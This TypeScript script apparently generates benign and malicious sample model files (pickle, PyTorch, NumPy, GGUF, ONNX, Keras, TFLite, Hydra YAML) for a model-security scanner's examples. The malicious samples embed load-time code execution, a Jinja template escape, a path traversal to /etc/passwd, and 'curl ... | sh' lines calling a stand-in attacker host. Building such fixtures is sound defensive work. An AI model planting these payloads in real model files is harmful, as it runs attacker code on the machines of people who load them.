/**
 * Writes examples/: small benign and malicious models, byte-exact and reproducible, so the README's
 * first command has something real to scan. Run: npm run examples (the output is committed).
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import { buildGguf, GGML, llamaMetadata, llamaTensors } from "../test/writers/gguf.js";
import { k3FunctionalModel, k3LambdaBytecode, kerasArchive } from "../test/writers/keras.js";
import { buildNpy } from "../test/writers/npy.js";
import { mlpSpec, writeOnnx } from "../test/writers/onnx.js";
import { pickle } from "../test/writers/pickle.js";
import { buildSafetensors, llamaTensors as llamaSafetensors } from "../test/writers/safetensors.js";
import { frozenGraph } from "../test/writers/tensorflow.js";
import { tfliteModel } from "../test/writers/tflite.js";
import { legacyTorch, stateDictPickle, type TensorSpec, torchZip } from "../test/writers/torch.js";

// The output folder: examples/ unless another is given (the test regenerates into a temporary one).
const root = process.argv[2] ?? join(import.meta.dirname, "..", "examples");
rmSync(join(root, "benign"), { recursive: true, force: true });
rmSync(join(root, "malicious"), { recursive: true, force: true });
mkdirSync(join(root, "benign"), { recursive: true });
mkdirSync(join(root, "malicious"), { recursive: true });
const put = (dir: string, name: string, bytes: Uint8Array | string) =>
  writeFileSync(join(root, dir, name), bytes);

const tensors: TensorSpec[] = [
  { name: "linear.weight", key: "0", shape: [2, 3] },
  { name: "linear.bias", key: "1", shape: [2] },
];
const floats = (n: number) =>
  new Uint8Array(new Float32Array(Array.from({ length: n }, (_, i) => i / 10)).buffer);
const storages = [
  { key: "0", bytes: floats(6) },
  { key: "1", bytes: floats(2) },
];

// Benign: what torch.save, numpy.save and pickle.dump write for ordinary models.
put("benign", "state_dict.pt", torchZip(stateDictPickle(tensors), storages));
put("benign", "legacy_state_dict.pt", legacyTorch(tensors));
put("benign", "weights.npy", buildNpy({ descr: "<f4", shape: [2, 3], data: floats(6) }));
put(
  "benign",
  "training_config.pkl",
  pickle()
    .proto(4)
    .op("EMPTY_DICT")
    .mark()
    .shortBinunicode("epochs")
    .binint1(10)
    .shortBinunicode("lr")
    .binfloat(0.001)
    .shortBinunicode("layers")
    .mark()
    .binint1(64)
    .binint1(32)
    .op("LIST")
    .op("SETITEMS")
    .stop()
    .bytes(),
);

// Malicious: each runs a command the moment it is loaded.
put("malicious", "os_system_protocol0.pkl", "cos\nsystem\n(S'echo pwned'\ntR.");
put(
  "malicious",
  "eval_stack_global.pkl",
  pickle()
    .proto(4)
    .framed((w) =>
      w
        .stackGlobal("builtins", "eval")
        .shortBinunicode("__import__('os').system('echo pwned')")
        .op("TUPLE1")
        .op("REDUCE")
        .stop(),
    )
    .bytes(),
);
put(
  "malicious",
  "checkpoint_with_payload.pt",
  torchZip(
    stateDictPickle(tensors, (w) =>
      w
        .binunicode("_extra")
        .reduceGlobal("posix", "system", (a) => a.binunicode("curl -s https://attacker.invalid/x | sh")),
    ),
    storages,
  ),
);
const code = Buffer.from(
  "YwAAAAAAAAAAAAAAAAAAAAAAAAAAcwQAAABkAFMAKQFOqQByAgAAAHICAAAAcgIAAAD6AHIDAAAAcgMAAAA=",
  "base64",
);
put(
  "malicious",
  "marshal_function.pkl",
  pickle()
    .proto(2)
    .global("types", "FunctionType")
    .mark()
    .global("marshal", "loads")
    .mark()
    .global("base64", "b64decode")
    .mark()
    .binunicode(code.toString("base64"))
    .op("TUPLE")
    .op("REDUCE")
    .op("TUPLE")
    .op("REDUCE")
    .op("EMPTY_DICT")
    .op("TUPLE")
    .op("REDUCE")
    .op("EMPTY_TUPLE")
    .op("REDUCE")
    .stop()
    .bytes(),
);
const popen = pickle()
  .proto(3)
  .reduceGlobal("subprocess", "Popen", (w) =>
    w.mark().binunicode("sh").binunicode("-c").binunicode("id").op("LIST"),
  )
  .stop()
  .bytes();
put("malicious", "object_array.npy", buildNpy({ descr: "|O", shape: [1], data: popen }));
put("malicious", "compressed_model.joblib", deflateSync(popen));
put(
  "malicious",
  "legacy_payload_in_4th_pickle.pt",
  legacyTorch(
    tensors,
    stateDictPickle(tensors, (w) =>
      w.binunicode("_extra").reduceGlobal("os", "system", (a) => a.binunicode("echo pwned")),
    ),
  ),
);
// Every other format: the layouts real exporters write, and one trick each.
const tinyLlama = { vocab: 300, embedding: 256, ffn: 256, layers: 1, weightType: GGML.Q4_K.id };
const gguf = (template?: string) =>
  buildGguf({
    kv: llamaMetadata({ ...tinyLlama, template }),
    tensors: llamaTensors(tinyLlama),
  });
const onnx = (edit: (spec: ReturnType<typeof mlpSpec>) => void = () => {}) => {
  const spec = mlpSpec();
  edit(spec);
  const dir = mkdtempSync(join(tmpdir(), "modelgate-examples-onnx-"));
  try {
    return readFileSync(writeOnnx(dir, "model.onnx", spec));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
};
put("benign", "model.safetensors", buildSafetensors(llamaSafetensors({ layers: 1, hidden: 8, vocab: 16 })));
put("benign", "llama-3.1-tiny.gguf", gguf());
put("benign", "mlp.onnx", onnx());
put("benign", "functional.keras", kerasArchive(k3FunctionalModel()));
put("benign", "classifier.tflite", tfliteModel());
put("benign", "frozen_graph.pb", frozenGraph());

put(
  "malicious",
  "chat_template_injection.gguf",
  gguf(
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
  ),
);
put(
  "malicious",
  "external_data_traversal.onnx",
  // onnx.load reads this initializer's bytes from a file outside the model's folder (CVE-2022-25882).
  onnx((spec) => {
    spec.graph.initializers![0]!.external = { location: "../../../../../../etc/passwd", skipBytes: true };
  }),
);
put(
  "malicious",
  "lambda_in_nested_model.keras",
  kerasArchive(k3FunctionalModel({ timeDistributed: k3LambdaBytecode("per_step") })),
);
put(
  "malicious",
  "flex_read_file.tflite",
  tfliteModel({ extraOps: [{ op: "FlexReadFile", inputs: [0], outputs: [9] }] }),
);
put(
  "malicious",
  "read_file_graph.pb",
  frozenGraph([{ name: "leak", op: "ReadFile", inputs: ["input"], attrs: {} }]),
);
put(
  "malicious",
  "hydra_target.yaml",
  "model:\n  preprocessor:\n    _target_: os.system\n    _args_: ['curl -s https://attacker.invalid/x | sh']\n",
);
console.log(`wrote examples to ${root}`);
